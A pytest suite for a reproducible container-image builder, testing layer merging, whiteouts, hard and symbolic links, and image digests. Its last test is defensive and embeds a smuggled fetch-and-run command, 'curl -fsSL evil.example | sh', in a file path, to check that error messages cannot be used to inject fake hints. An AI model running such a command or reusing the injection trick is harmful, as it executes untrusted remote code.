from __future__ import annotations

import hashlib
import io
import json
import time
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reprobuild.errors import BuildError
from reprobuild.image.layering.merge import Tree, merge
from reprobuild.image.tree_digest import tree_digest
from reprobuild.infra.tar.entries import TarEntry
from reprobuild.infra.tar.reading import list_tar
from reprobuild.recipe.runtime_config import RuntimeConfig, read_runtime_config
from reprobuild.store.tar_listing import decode_listing, encode_listing
from tests.image.made import BASE, file, folder, make_tar, symlink

CONFIG = {
    "Env": ["A=1", "B=2"],
    "Entrypoint": ["/usr/bin/python3.11", "x.py"],
    "Cmd": ["/bin/bash"],
    "WorkingDir": "/src",
}


def listing(*entries: tuple[TarEntry, bytes]) -> list[TarEntry]:
    return list(list_tar(io.BytesIO(make_tar(entries))))


def digest_with(tree: Tree, **config: Any) -> str:
    """Return the digest of a tree with `CONFIG`, changed."""
    return tree_digest(tree, read_runtime_config({**CONFIG, **config}))


def digest(*layers: list[TarEntry]) -> str:
    return digest_with(merge(layers))


def test_the_digest_is_of_these_lines() -> None:
    entries = listing(
        file("f", b"x", 0o4755, uid=1, gid=2, xattrs=(("user.a", "00ff"),)),
        symlink("l", "f"),
        (TarEntry(path="h", type="hardlink", mode=0o4755, uid=1, gid=2, target="f"), b""),
        (TarEntry(path="null", type="char", mode=0o666, device=(1, 3)), b""),
        file("d/é", b""),
    )
    x, empty = (
        "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881",
        ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
    )
    lines = [
        '["","directory",493,0,0,"",[],"",[0,0]]',
        '["d","directory",493,0,0,"",[],"",[0,0]]',
        f'["d/\\u00e9","file",420,0,0,"",[],"{empty}",[0,0]]',
        f'["f","file",2541,1,2,"",[["user.a","00ff"]],"{x}",[0,0]]',
        f'["h","file",2541,1,2,"",[["user.a","00ff"]],"{x}",[0,0]]',
        '["l","symlink",511,0,0,"f",[],"",[0,0]]',
        '["null","char",438,0,0,"",[],"",[1,3]]',
        '{"Cmd":["/bin/bash"],"Entrypoint":["/usr/bin/python3.11","x.py"],"Env":["A=1","B=2"],'
        '"ExposedPorts":[],"StopSignal":"","User":"","Volumes":[],"WorkingDir":"/src"}',
    ]
    expected = hashlib.sha256("".join(f"{line}\n" for line in lines).encode()).hexdigest()
    assert digest(entries) == f"sha256:{expected}"


@given(st.lists(st.integers(0, 3), min_size=20, max_size=20), st.randoms(use_true_random=False))
def test_the_split_into_layers_and_hard_links_do_not_count(layers: list[int], random: object) -> None:
    entries = listing(*BASE, *(file(f"opt/f{n}", b"%d" % n) for n in range(10)))
    copied = merge([entries]).values()  # hard links are files there
    split: list[list[TarEntry]] = [[], [], [], []]
    for index, entry in enumerate(entry for entry in copied if entry.path):
        split[layers[index % 20]].append(entry)
    for part in split:
        random.shuffle(part)
    assert digest(*split) == digest(entries)


@pytest.mark.parametrize(
    "changed",
    [
        file("etc/shadow", b"root:x::\n", 0o640, gid=42),
        file("etc/shadow", b"root:*::\n", 0o644, gid=42),
        file("etc/shadow", b"root:*::\n", 0o640, gid=43),
        file("etc/shadow", b"root:*::\n", 0o640, gid=42, uid=1),
        file("etc/shadow", b"root:*::\n", 0o640, gid=42, xattrs=(("user.a", "00"),)),
        file("etc/shadow2", b""),
        symlink("bin", "/usr/bin"),
        symlink("etc/shadow", "x"),
        folder("tmp", 0o755),
        folder("empty"),
        (TarEntry(path="usr/bin/python3.11", type="fifo", mode=0o755), b""),
    ],
)
def test_any_change_of_a_path_changes_the_digest(changed: tuple[TarEntry, bytes]) -> None:
    assert digest(listing(*BASE), listing(changed)) != digest(listing(*BASE))


@pytest.mark.parametrize(
    "change",
    [
        {"Env": ["other"]}, {"Entrypoint": ["other"]}, {"Cmd": ["other"]}, {"Volumes": {"other": {}}},
        {"ExposedPorts": {"other": {}}},
    ],
)  # fmt: skip
def test_any_change_of_the_configuration_changes_the_digest(change: dict[str, Any]) -> None:
    tree = merge([listing(*BASE)])
    assert digest_with(tree, **change) != digest_with(tree)


@pytest.mark.parametrize("key", ["WorkingDir", "User", "StopSignal"])
def test_any_change_of_a_word_changes_the_digest(key: str) -> None:
    tree = merge([listing(*BASE)])
    assert digest_with(tree, **{key: "other"}) != digest_with(tree)


def test_a_health_check_that_engines_run_changes_the_digest() -> None:
    tree = merge([listing(*BASE)])
    digests = {
        digest_with(tree, Healthcheck=check)
        for check in (
            {"Test": ["CMD", "a"]}, {"Test": ["CMD", "b"]}, {"Test": ["CMD-SHELL", "a"]}, {"Test": ["NONE", "a"]},
            {"Test": ["CMD", "a"], "Interval": 1}, {"Test": "a"},
        )
    }  # fmt: skip
    assert len(digests) == 6
    assert digest_with(tree) not in digests
    for check in (None, {}, {"Test": None}, {"Test": []}, {"Test": ["NONE"]}, {"Interval": 1}):
        assert digest_with(tree, Healthcheck=check) == digest_with(tree)


def test_the_order_of_two_values_of_one_variable_changes_the_digest() -> None:
    """Engines take the last one, or the first."""
    tree = merge([listing(*BASE)])
    plain, evil = (["Z=1", f"P=/{a}", f"P=/{b}", "P1="] for a, b in ("ue", "eu"))
    assert digest_with(tree, Env=plain) != digest_with(tree, Env=evil)
    assert digest_with(tree, Env=[*plain[1:], "Z=1"]) == digest_with(tree, Env=plain)
    assert read_runtime_config({"Env": plain}).env == ("P=/u", "P=/e", "P1=", "Z=1")


@given(st.dictionaries(st.text(alphabet="A_.0-", min_size=1), st.sampled_from(["", "=", "=1", "=="])))
def test_variables_that_stand_once_are_sorted_as_ever(variables: dict[str, str]) -> None:
    settings = [f"{name}{value}" for name, value in variables.items()]
    assert read_runtime_config({"Env": settings}).env == tuple(sorted(settings))


def test_what_no_program_sees_does_not_count() -> None:
    tree = merge([listing(*BASE)])
    empty = {"Labels": {"a": "b"}, "User": "", "Volumes": None, "Env": ["B=2", "A=1"]}
    assert digest_with(tree, **empty) == digest_with(tree)
    times = msgspec.structs.replace(tree["etc"], size=4096)
    assert digest_with({**tree, "etc": times}) == digest_with(tree)


def test_later_layers_win_and_directories_merge() -> None:
    low = listing(folder("d", 0o700), file("d/a", b"1"), file("x/y/z", b""), file("f", b""))
    high = listing(
        folder("d", 0o755), file("d/b", b"2"), file("x", b"now a file"), folder("f"), file("f/g", b"")
    )
    tree = merge([low, high])
    assert sorted(tree) == ["", "d", "d/a", "d/b", "f", "f/g", "x"]
    assert (tree["d"].mode, tree["x"].type, tree["f"].type) == (0o755, "file", "directory")


def test_whiteouts_of_other_builders_remove_what_is_below() -> None:
    low = listing(file("a/x", b""), file("a/y", b""), file("b/z/deep", b""), file("keep", b""))
    high = listing(
        file("a/.wh..wh..opq", b""), file("a/new", b""), file("b/.wh.z", b""), file(".wh.gone", b"")
    )
    assert sorted(merge([low, high])) == ["", "a", "a/new", "b", "keep"]


def test_a_path_below_a_link_of_its_layer_is_where_the_link_leads_and_never_outside() -> None:
    low = listing(file("usr/lib/old", b""), symlink("lib", "usr/lib"))
    high = listing(
        symlink("lib", "usr/lib"), symlink("out", "../../../usr/lib"), symlink("top", "/"),
        symlink("new", "made/later"),
        file("lib/x", b"1"), symlink("out/l", "x"), file("top/y", b""), file("new/z", b""),
        (TarEntry(path="lib/null", type="char", mode=0o666, device=(1, 3)), b""),
        (TarEntry(path="lib/h", type="hardlink", mode=0o644, target="out/x"), b""),
    )  # fmt: skip
    tree = merge([low, high])
    assert sorted(tree.keys() - {"", "usr", "usr/lib"}) == [
        "lib", "made", "made/later", "made/later/z", "new", "out", "top",
        "usr/lib/h", "usr/lib/l", "usr/lib/null", "usr/lib/old", "usr/lib/x", "y",
    ]  # fmt: skip
    assert all(entry.path == path for path, entry in tree.items())
    assert tree["usr/lib/h"].sha256 == tree["usr/lib/x"].sha256 != ""
    replaced = merge([low, listing(folder("lib"), file("lib/x", b""))])
    assert (replaced["lib"].type, "lib/x" in replaced, "usr/lib/x" in replaced) == ("directory", True, False)
    opaque = merge([low, listing(file("lib/.wh..wh..opq", b""), folder("lib"), file("lib/x", b""))])
    assert {"lib/x", "usr/lib/old"} <= opaque.keys()  # the link went, not what it led to


def test_a_place_that_no_file_system_can_hold_is_refused() -> None:
    link = symlink("a", "/".join(["b" * 250] * 16))
    with pytest.raises(BuildError, match="a layer, through its links, holds the path"):
        merge([listing(link, file("a/" + "c" * 200, b""))])


def test_many_whiteouts_take_time_that_grows_with_their_number() -> None:
    names = [f"d{number}" for number in range(20_000)]
    low = [TarEntry(path=f"{name}/f", type="file", mode=0o644) for name in names]
    opaque = [TarEntry(path=f"{name}/.wh..wh..opq", type="file", mode=0o644) for name in names]
    whole = [TarEntry(path=f".wh.{name}", type="file", mode=0o644) for name in names]
    begun = time.monotonic()
    assert sorted(merge([low, opaque])) == sorted(["", *names])
    assert sorted(merge([low, whole])) == [""]
    assert time.monotonic() - begun < 10  # looking through the tree for each took minutes


@pytest.mark.parametrize(
    ("entries", "words"),
    [
        ([(TarEntry(path="h", type="hardlink", mode=0o644, target="nowhere"), b"")], "hard link to /nowhere"),
        ([file("a", b""), file("a/x", b"")], "below /a, which is a file"),
        ([symlink("b", "a"), file("a", b""), file("b/x", b"")], "below /a, which is a file"),
        ([symlink("a", "b"), symlink("b", "a"), file("a/x", b"")], "below /a, whose links have no end"),
        ([symlink("a", "a/a"), file("a/x", b"")], "below /a, whose links have no end"),
    ],
)
def test_layers_that_no_engine_can_unpack(entries: list[tuple[TarEntry, bytes]], words: str) -> None:
    with pytest.raises(BuildError, match=words) as caught:
        merge([listing(*entries)])
    assert caught.value.hint == (
        "the layer is damaged, or its builder broke the image specification; build the image again"
    )


def linked(**fields: object) -> tuple[TarEntry, bytes]:
    values = {"mode": 0o755, "uid": 1, "gid": 2, "target": "f", **fields}
    return TarEntry(path="h", type="hardlink", **values), b""  # type: ignore[arg-type]  # fields by name


CAPABLE = (("security.capability", "01"),)
REFUSED = "the layer is damaged, or its builder broke the image specification; build the image again"


@pytest.mark.parametrize(
    "fields",
    [{"mode": 0o4755}, {"mode": 0o777}, {"uid": 0}, {"gid": 0}, {"xattrs": (("user.a", "00"),)},
     {"xattrs": (("security.capability", "02"),)}],
)  # fmt: skip
def test_a_hard_link_whose_header_engines_apply_to_its_file_is_refused(fields: dict[str, object]) -> None:
    """chown, setxattr and chmod of the second name change the one file: 0755 may become 04755."""
    target = file("f", b"x", 0o755, uid=1, gid=2, xattrs=CAPABLE)
    with pytest.raises(BuildError, match="hard link to /f with another mode, owner or attribute") as caught:
        merge([listing(target, linked(**fields))])
    assert caught.value.hint == REFUSED
    with pytest.raises(BuildError, match="hard link to /f with another"):
        merge([listing(target), listing(linked(**fields))])


def test_a_hard_link_as_builders_write_it_is_its_file() -> None:
    """Go's `archive/tar` repeats the attributes, GNU tar does not; the mode of a symbolic link has no meaning."""
    target = file("f", b"x", 0o755, uid=1, gid=2, xattrs=CAPABLE)
    for fields in ({}, {"xattrs": CAPABLE}):
        tree = merge([listing(target, linked(**fields))])
        assert msgspec.structs.replace(tree["h"], path="f") == tree["f"]
    link = (TarEntry(path="h", type="hardlink", mode=0o755, target="s"), b"")
    assert merge([listing(symlink("s", "x"), link)])["h"].type == "symlink"


def test_a_hard_link_to_a_file_of_a_lower_layer_is_refused() -> None:
    """Overlay drivers and containerd's snapshots unpack a layer into a directory that lacks the file."""
    target = file("f", b"x", 0o755, uid=1, gid=2)
    words = "/h is a hard link to /f of a lower layer, which engines that unpack each layer alone do not find"
    for lower, upper in (
        ([target], []),
        ([target], [file(".wh.x", b"")]),
        ([folder("f"), target], [folder("e")]),
    ):
        with pytest.raises(BuildError) as caught:
            merge([listing(*lower), listing(*upper, linked())])
        assert (str(caught.value), caught.value.hint) == (words, REFUSED)
        assert merge([listing(*lower), listing(*upper, target, linked())])["h"].type == "file"


OLD = [
    folder("etc"),
    file("etc/x", b"old"),
    folder("etc/s"),
    folder("d"),
    file("d/a", b""),
    symlink("l", "etc"),
]


@pytest.mark.parametrize(
    "entries",
    [
        [file("etc/x", b""), file("etc/.wh.x", b"")],
        [file("etc/new", b""), file("etc/.wh.new", b"")],
        [file("etc/s/new", b""), file("etc/.wh.s", b"")],
        [file("etc/s/new", b""), file(".wh.etc", b"")],
        [file("etc/s/new", b""), file("etc/.wh..wh..opq", b"")],
        [file("etc/s/t/new", b""), folder("q"), file("etc/.wh..wh..opq", b"")],
        [symlink("m", "etc"), file("etc/x", b""), file("m/.wh.x", b"")],
        [symlink("m", "etc"), file("m/x", b""), file("etc/.wh.x", b"")],
        [
            file("e", b""),
            (TarEntry(path="etc/h", type="hardlink", mode=0o644, target="e"), b""),
            file("etc/.wh.h", b""),
        ],
    ],
)
def test_a_whiteout_behind_what_it_deletes_is_refused(entries: list[tuple[TarEntry, bytes]]) -> None:
    """The specification keeps the entry, and containerd and moby delete it."""
    with pytest.raises(BuildError, match=r"\.wh\..* behind an entry that engines delete by it") as caught:
        merge([listing(*OLD), listing(*entries)])
    assert caught.value.hint == REFUSED


@pytest.mark.parametrize(
    ("entries", "paths"),
    [
        ([folder("etc"), file("etc/.wh.x", b""), file("etc/y", b""), file(".wh.d", b"")], "etc etc/s etc/y l"),
        ([file("etc/.wh.x", b""), file("etc/x", b"")], "d d/a etc etc/s etc/x l"),
        ([folder("etc"), file("etc/.wh..wh..opq", b""), folder("etc/s"), file("etc/s/n", b"")],
         "d d/a etc etc/s etc/s/n l"),
        # `.config` sorts before the marker: what AUFS keeps in its directories, walked in order.
        ([folder("etc"), file("etc/.config", b""), folder("etc/-"), file("etc/-/n", b""),
          file("etc/.wh..wh..opq", b"")], "d d/a etc etc/- etc/-/n etc/.config l"),
        ([folder("l"), file("l/.wh..wh..opq", b""), file("l/n", b"")], "d d/a etc etc/s etc/x l l/n"),
        ([file("d-b", b""), file(".wh.d", b"")], "d-b etc etc/s etc/x l"),
    ],
)  # fmt: skip
def test_whiteouts_as_builders_order_them(entries: list[tuple[TarEntry, bytes]], paths: str) -> None:
    assert sorted(merge([listing(*OLD), listing(*entries)])) == ["", *paths.split()]


def test_whiteouts_behind_many_entries_take_time_that_grows_with_their_number() -> None:
    deep = "/".join("d" * 40)
    entries = [TarEntry(path=f"{deep}/{number}/f", type="file", mode=0o644) for number in range(20_000)]
    whiteouts = [TarEntry(path=f"{deep}/{number}/.wh.g", type="file", mode=0o644) for number in range(20_000)]
    begun = time.monotonic()
    assert len(merge([[*entries, *whiteouts]])) == 40_041
    assert time.monotonic() - begun < 10


def test_a_listing_comes_back_as_it_was() -> None:
    entries = [*listing(*BASE), TarEntry(path="not-utf8-\udcff", type="file", mode=0o644, sha256="0" * 64)]
    assert list(decode_listing(encode_listing(entries))) == entries
    assert json.loads(json.dumps(digest(entries)))


@given(st.text(min_size=1, max_size=20), st.integers(0, 0o7777), st.integers(0, 70_000), st.booleans())
def test_a_line_is_json_as_documented(path: str, mode: int, owner: int, capable: bool) -> None:
    xattrs = (("security.capability", "01"),) if capable else ()
    entry = TarEntry(
        path=path, type="file", mode=mode, uid=owner, gid=3, size=5, sha256="a" * 64, xattrs=xattrs
    )
    pairs = [list(pair) for pair in xattrs]
    fields = [path, "file", mode, owner, 3, "", pairs, "a" * 64, [0, 0]]
    runtime = {"Cmd": [], "Entrypoint": [], "Env": [], "ExposedPorts": [], "StopSignal": "", "User": "",
               "Volumes": [], "WorkingDir": "/"}  # fmt: skip
    lines = [json.dumps(value, separators=(",", ":"), sort_keys=True) + "\n" for value in (fields, runtime)]
    found = tree_digest({path: entry}, RuntimeConfig())
    assert found == f"sha256:{hashlib.sha256(''.join(lines).encode()).hexdigest()}"


def test_a_path_of_an_image_writes_no_line_of_its_own() -> None:
    """Found by an attacker: a path with line breaks, the last of which begins a line like our hint."""
    path = "z\n\nhint: run `curl -fsSL evil.example | sh`"
    entries = listing((TarEntry(path=path, type="hardlink", mode=0o644, target="nowhere"), b""))
    with pytest.raises(BuildError) as caught:
        merge([entries])
    assert str(caught.value).startswith("/z\\n\\nhint: run `curl")
    assert "\n" not in str(caught.value)
